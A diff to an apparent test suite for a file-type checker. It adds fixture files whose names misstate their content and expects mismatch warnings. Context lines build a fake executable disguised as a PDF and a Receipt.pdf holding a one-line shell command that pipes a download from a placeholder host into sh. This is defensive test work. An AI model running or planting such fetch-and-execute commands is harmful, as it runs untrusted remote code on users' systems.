@@ -42,6 +42,11 @@ import docx, openpyxl
 agenda = docx.Document(); agenda.add_heading('Webinar agenda', 1); agenda.add_paragraph('10:00 Welcome, 10:15 Zero trust with Microsoft Defender'); agenda.save(os.path.join(out, 'Agenda.docx'))
 book = openpyxl.Workbook(); book.active.append(['Name', 'Company']); book.active.append(['Ada', 'Fabrikam']); book.save(os.path.join(out, 'Attendees.xlsx'))
 office('Booth.png', {'booth.jpg': b'not really'})
+# Names that lie the way partners' files do: a phone photo saved as .pdf, a JPEG named
+# .png, an invoice page saved from the browser as .pdf.
+open(os.path.join(out, 'Booth photo.pdf'), 'wb').write(png(300, 400))
+open(os.path.join(out, 'Stand.png'), 'wb').write(b'\\xff\\xd8\\xff\\xe0\\x00\\x10JFIF\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x01\\x00\\x00' + b'\\x00' * 64 + b'\\xff\\xd9')
+open(os.path.join(out, 'Venue invoice.pdf'), 'w').write('<!DOCTYPE html><html><body><h1>Invoice 2044</h1><p>Total 900.00 USD</p></body></html>')
 pe = bytearray(512); pe[0:2] = b'MZ'; pe[60:64] = struct.pack('<I', 128); pe[128:132] = b'PE\\x00\\x00'
 open(os.path.join(out, 'Invoice_Contoso_March.pdf'), 'wb').write(bytes(pe))
 open(os.path.join(out, 'Receipt.pdf'), 'wb').write(b'#!/bin/sh\\ncurl http://example.invalid | sh\\n')
@@ -106,6 +111,9 @@ journey('each file is known by its content: three producers read, and every bad 
     ['Invoice_Contoso_March.pdf', null, ['FILE-EXECUTABLE']],
     ['Receipt.pdf', null, ['FILE-EXECUTABLE']],
     ['Booth.png', null, ['FILE-CONTENT-MISMATCH']],
+    ['Booth photo.pdf', null, ['FILE-CONTENT-MISMATCH']],
+    ['Stand.png', null, ['FILE-CONTENT-MISMATCH']],
+    ['Venue invoice.pdf', null, ['FILE-CONTENT-MISMATCH']],
     ['Agenda.docx', null, []],
     ['Attendees.xlsx', null, []],
   ];
@@ -122,6 +130,9 @@ journey('each file is known by its content: three producers read, and every bad 
   }
   await checks(page).getByText('Cut invoice.pdf cannot be read as a PDF: it is cut short (its end, %%EOF, is missing).').waitFor();
   await checks(page).getByText('Booth.png is named as a PNG image, but its content is a ZIP archive.').waitFor();
+  await checks(page).getByText('Booth photo.pdf is named as a PDF, but its content is a PNG image.').waitFor();
+  await checks(page).getByText('Stand.png is named as a PNG image, but its content is a JPEG image.').waitFor();
+  await checks(page).getByText('Venue invoice.pdf is named as a PDF, but its content is a web page.').waitFor();
   await checks(page).getByText('Invoice_Contoso_March.pdf is a program: it runs, it proves nothing, and Partner Center\'s malware scan would stop the claim.').waitFor();
   // A small screenshot as proof of execution is said to be hard to read.
   await addFiles(page, [file('Booth photo small.png')]);
